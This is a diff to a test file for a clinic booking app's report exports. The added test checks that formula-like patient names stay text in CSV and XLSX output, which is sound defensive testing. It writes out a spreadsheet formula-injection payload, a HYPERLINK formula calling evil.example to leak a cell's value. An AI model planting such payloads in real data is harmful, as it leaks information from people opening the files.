@@ -140,7 +140,7 @@ def test_clinic_list_shows_blocked_clinics_and_activation_and_hides_protected(
     )
     assert rows[1] == f"{pid0[:8]}-{pid0[8:]};;A-kliniken;;ja"
     assert rows[2] == f"{pid1[:8]}-{pid1[8:]};;A-kliniken, B-kliniken;;nej"
-    assert rows[3].startswith("+ 1 med skyddad identitet")
+    assert rows[3].startswith("Dessutom 1 med skyddad identitet")
     assert pid3[:8] not in text.decode()
 
     xlsx = manager.get(f"/reports/migration-exclusions/{a}.xlsx")
@@ -241,3 +241,32 @@ def test_ranked_table_counts_are_kept_until_the_refresh(world: dict[str, Any]) -
         f"{world['a'].hsa_id};A-kliniken;3;2",
         f"{world['b'].hsa_id};B-kliniken;2;1",
     ]
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(
+    world: dict[str, Any],
+) -> None:
+    from bookings.models import Patient
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
+    Patient.objects.filter(personal_id=world["pids"][0].replace("-", "")).update(
+        given_name="", family_name=evil
+    )
+    Patient.objects.filter(personal_id=world["pids"][1].replace("-", "")).update(
+        given_name="@SUM(1+1)", family_name="-2+3"
+    )
+    manager = client(world["users"]["manager_a"])
+    a = world["a"].hsa_id
+    text = b"".join(manager.get(f"/reports/migration-exclusions/{a}.csv").streaming_content)
+    import csv
+
+    rows = list(csv.reader(text.decode().splitlines(), delimiter=";"))
+    assert {row[1] for row in rows[1:3]} == {"'" + evil, "'@SUM(1+1) -2+3"}
+
+    from openpyxl import load_workbook
+
+    xlsx = manager.get(f"/reports/migration-exclusions/{a}.xlsx")
+    book = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
+    cells = [row[1] for row in book.active.iter_rows(min_row=2, max_row=3)]
+    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
+    assert {cell.value for cell in cells} == {"'" + evil, "'@SUM(1+1) -2+3"}
